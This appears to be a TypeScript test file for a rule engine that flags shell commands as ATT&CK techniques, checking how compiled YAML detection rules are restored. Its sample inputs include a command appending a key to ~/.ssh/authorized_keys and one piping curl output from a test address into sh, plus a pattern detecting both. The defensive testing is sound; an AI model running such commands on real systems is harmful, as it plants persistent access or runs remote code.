// SPDX-License-Identifier: AGPL-3.0-or-later
import { buildRuleIndex } from '../engine';
import { aCommand, permissiveAttack } from '../testing';
import { compiledDocuments, restoreDocuments } from './compiled-documents';
import { loadRules } from './load-rules';
import type { LoadedRules } from './load-rules';

const document = (ruleId: string, match: string, more = ''): string => `rule_id: ${ruleId}
rule_version: 1
name: made_up
applies_to: [command]
match: ${match}
emits: [{ technique_id: T1098, tactic: TA0003, confidence: 0.8 }]
${more}`;

const FILES = [
  { file: 'R0901.yaml', text: document('R0901', "{ pattern: '>>.*authorized_keys|curl .* \\| *(?:ba)?sh\\b' }") },
  { file: 'R0902.yaml', text: document('R0902', "{ pattern: 'abc', extra: 1 }") },
  { file: 'R0903.yaml', text: document('R0903', '{ kind: lifter:made_up }') },
  { file: 'R0904.yaml', text: 'rule_id: [' },
];
const COMMANDS = ['echo k >> ~/.ssh/authorized_keys', 'curl http://192.0.2.1/x | sh', 'abc', 'ls'];

const fresh = loadRules(FILES, permissiveAttack);
/** As a file keeps it. */
const compiled = structuredClone(compiledDocuments(fresh));
const restore = (files: typeof FILES) => loadRules(files, permissiveAttack, { documents: restoreDocuments(compiled, files, permissiveAttack) });
const firedBy = ({ rules }: LoadedRules) => {
  const index = buildRuleIndex(rules);
  return COMMANDS.map((command) => index.match(aCommand(command))?.rules.map(({ ruleId }) => ruleId) ?? []);
};

it('leaves out a document with an error', () => {
  expect(compiled.map(({ rule }) => rule.ruleId)).toEqual(['R0901', 'R0902']);
});

it('gives the rules, issues and hits of a load without it', () => {
  const restored = restore(FILES);
  expect(restored.rules).toEqual(fresh.rules);
  expect(restored.issues).toEqual(fresh.issues);
  expect(firedBy(restored)).toEqual([['R0901'], ['R0901'], ['R0902'], []]);
});

it('names the file that is loaded in its warnings, not the one that was compiled', () => {
  const [, warned] = FILES;
  expect(restore([{ ...warned!, file: 'elsewhere/x.yaml' }]).issues.map(({ file }) => file)).toEqual(['elsewhere/x.yaml']);
});

it('never gives an old rule for a text that was edited', () => {
  const [first] = FILES;
  const edited = restore([{ ...first!, text: document('R0901', "{ pattern: 'abc' }") }]);
  expect(firedBy(edited)).toEqual([[], [], ['R0901'], []]);
});
